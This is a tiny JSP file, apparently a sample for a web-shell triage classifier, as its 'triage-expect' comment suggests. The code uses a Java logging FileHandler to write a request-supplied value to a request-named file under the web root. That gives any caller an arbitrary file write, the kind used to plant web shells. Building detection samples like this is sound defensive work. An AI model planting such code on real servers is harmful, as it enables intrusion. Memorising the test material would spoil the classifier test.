<%-- triage-expect: triage_jsp_file_manager --%>
<%
    // a log handler opened on a file the request names under the web root, fed the request's text
    java.util.logging.Logger lg = java.util.logging.Logger.getLogger("x");
    java.util.logging.FileHandler fh = new java.util.logging.FileHandler(application.getRealPath("/") + request.getParameter("n"), true);
    lg.addHandler(fh);
    lg.info(request.getParameter("v"));
%>
